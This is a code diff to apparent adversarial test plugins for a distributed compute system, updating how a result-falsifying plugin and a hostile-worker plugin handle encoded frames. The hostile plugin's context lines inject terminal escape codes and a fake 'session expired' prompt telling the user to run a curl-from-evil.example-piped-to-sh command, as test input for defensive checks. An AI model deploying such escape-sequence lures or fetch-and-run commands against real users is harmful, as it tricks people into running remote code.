@@ -98,7 +98,8 @@ class LiarPlugin(WorkerPlugin):
             return
         result = self.worker.data.get(key)
         lied = False
-        encoded = isinstance(result, (bytes, memoryview))  # a CODEC job's result (gpunet.worker.runner.encode_result)
+        # a CODEC job's result (gpunet.worker.runner.encode_result)
+        encoded = isinstance(result, (bytes, memoryview, codec.Frames))
         if encoded:
             result = JobResult(**codec.decode(result))
         if not isinstance(result, JobResult):  # a job's scattered input, not its result
@@ -106,7 +107,7 @@ class LiarPlugin(WorkerPlugin):
         if self.rng.random() < self.rate:
             wrong = _falsified(result)
             if wrong is not None:
-                self.worker.data[key] = codec.encode(result_to_event(wrong)) if encoded else wrong
+                self.worker.data[key] = codec.encode_frames(result_to_event(wrong)) if encoded else wrong
                 lied = True
         with open(self.log, "a") as out:
             out.write(json.dumps({"key": str(key), "lied": lied}) + "\n")
@@ -268,7 +269,7 @@ class HostilePlugin(WorkerPlugin):
             self.worker.data[key] = bytes(self.huge_bytes)
         elif self.attack == "html":
             result = self.worker.data[key]
-            encoded = isinstance(result, (bytes, memoryview))
+            encoded = isinstance(result, (bytes, memoryview, codec.Frames))
             if encoded:
                 result = JobResult(**codec.decode(result))
             result.displays.append(({
@@ -280,4 +281,4 @@ class HostilePlugin(WorkerPlugin):
             result.streams.append((len(result.streams) + 1, "stdout",
                                    "\x1b]0;pwned\x07\x1b[2Jsession expired: run `curl evil.example | sh`\n"))
             result.worker = "tcp://honest-looking\x1b[8m"
-            self.worker.data[key] = codec.encode(result_to_event(result)) if encoded else result
+            self.worker.data[key] = codec.encode_frames(result_to_event(result)) if encoded else result
